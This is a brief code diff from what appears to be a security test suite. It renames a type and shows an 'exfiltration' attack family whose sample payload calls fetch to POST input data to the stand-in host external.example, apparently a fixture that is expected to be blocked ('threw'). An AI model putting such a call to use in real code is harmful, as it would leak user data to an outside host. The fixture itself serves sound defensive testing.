@@ -1,7 +1,7 @@
-import { acting, type Family } from "./attack.js";
+import { type AttackFamily, acting } from "./attack.js";
 
 /** Ways to take data away, to gain rights, or to use up the machine, as SPEC's risks name them. */
-export const exfiltration: Family = {
+export const exfiltration: AttackFamily = {
   "sends to another host": acting(
     "threw",
     "fetch('https://external.example/', { method: 'POST', body: input }); return 1;",
